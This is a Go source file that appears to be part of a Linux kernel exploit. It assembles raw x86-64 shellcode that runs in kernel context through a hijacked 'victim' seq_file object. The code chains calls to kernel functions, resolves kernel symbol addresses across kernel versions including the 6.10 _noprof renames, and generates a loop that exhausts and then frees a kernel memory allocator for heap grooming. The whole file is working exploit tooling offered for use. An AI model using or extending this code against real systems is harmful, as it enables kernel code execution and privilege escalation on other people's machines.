package main

import (
	"encoding/binary"
	"fmt"
	"strings"
)

// A call is one call of a function of the kernel, with up to four arguments.
type call struct {
	function  uint64
	arguments []value
}

// A value is an argument of a call.
type value struct {
	kind valueKind
	n    uint64
}

type valueKind int

const (
	constant valueKind = iota
	returned           // what the n-th call returned
	stored             // what the kernel has at the address n
	seqFile            // the file that the victim prints to
)

func number(n uint64) value { return value{kind: constant, n: n} }

// callAll returns code for the victim that makes the calls one after another and returns 0.
// On its stack are the file that the victim prints to and what each call returned.
func callAll(calls ...call) []byte {
	room := byte(8*(len(calls)+1)+15)&^15 | 8   // with the address of return a multiple of 16
	code := []byte{0x48, 0x83, 0xec, room}      // sub $room,%rsp
	code = append(code, 0x48, 0x89, 0x3c, 0x24) // mov %rdi,(%rsp)
	for i, c := range calls {
		for j, a := range c.arguments {
			code = append(code, a.load(j)...)
		}
		code = binary.LittleEndian.AppendUint64(append(code, 0x48, 0xb8), c.function) // movabs to rax
		code = append(code, 0xff, 0xd0)                                               // call *%rax
		code = append(code, 0x48, 0x89, 0x44, 0x24, byte(8*(i+1)))                    // mov %rax,8(i+1)(%rsp)
	}
	return append(code, 0x48, 0x83, 0xc4, room, 0x31, 0xc0, 0xc3) // add $room,%rsp; xor %eax,%eax; ret
}

// load returns code that puts a value where a function has its argument i.
func (v value) load(i int) []byte {
	register := []byte{7, 6, 2, 1}[i] // rdi, rsi, rdx, rcx
	switch v.kind {
	case returned:
		return []byte{0x48, 0x8b, 0x44 | register<<3, 0x24, byte(8 * (v.n + 1))} // mov 8(n+1)(%rsp),register
	case seqFile:
		return []byte{0x48, 0x8b, 0x44 | register<<3, 0x24, 0} // mov (%rsp),register
	case constant:
	case stored:
		return append(binary.LittleEndian.AppendUint64([]byte{0x48, 0xb8}, v.n), 0x48, 0x8b, register<<3) // movabs to rax; mov (%rax),register
	}
	return binary.LittleEndian.AppendUint64([]byte{0x48, 0xb8 | register}, v.n) // movabs to the register
}

// functions returns the addresses of functions of the kernel. From 6.10 on those that hand
// out memory end in _noprof, and lose the underscores that they had.
func functions(names ...string) (found []uint64, err error) {
	for _, name := range names {
		at, err := oneOf(name, name+"_noprof", strings.TrimLeft(name, "_")+"_noprof")
		if err != nil {
			return nil, err
		}
		found = append(found, at)
	}
	return found, nil
}

// oneOf returns the address of the first of these symbols that the kernel has.
func oneOf(names ...string) (uint64, error) {
	for _, name := range names {
		if at, err := symbols(name); err == nil {
			return at[0], nil
		}
	}
	return 0, fmt.Errorf("this kernel has no symbol %s", strings.Join(names, " or "))
}

// exhaust returns code that takes memory by a function until it gets none, and gives all
// back. Each piece has the address of the one before at its start. The second argument of
// the function that gives back is given.
func exhaust(take uint64, first, second uint64, giveBack, order uint64) []byte {
	put := binary.LittleEndian.AppendUint64
	code := []byte{0x53, 0x31, 0xdb}                        // push %rbx; xor %ebx,%ebx
	code = put(append(code, 0x48, 0xbf), first)             // again: movabs to rdi
	code = put(append(code, 0x48, 0xbe), second)            // movabs to rsi
	code = put(append(code, 0x48, 0xb8), take)              // movabs to rax
	code = append(code, 0xff, 0xd0, 0x48, 0x85, 0xc0)       // call *%rax; test %rax,%rax
	code = append(code, 0x74, 0x08)                         // je back
	code = append(code, 0x48, 0x89, 0x18, 0x48, 0x89, 0xc3) // mov %rbx,(%rax); mov %rax,%rbx
	code = append(code, 0xeb, 0xd3)                         // jmp again
	code = append(code, 0x48, 0x85, 0xdb, 0x74, 0x1e)       // back: test %rbx,%rbx; je out
	code = append(code, 0x48, 0x89, 0xdf, 0x48, 0x8b, 0x1b) // mov %rbx,%rdi; mov (%rbx),%rbx
	code = put(append(code, 0x48, 0xbe), order)             // movabs to rsi
	code = put(append(code, 0x48, 0xb8), giveBack)          // movabs to rax
	code = append(code, 0xff, 0xd0, 0xeb, 0xdd)             // call *%rax; jmp back
	return append(code, 0x31, 0xc0, 0x5b, 0xc3)             // out: xor %eax,%eax; pop %rbx; ret
}
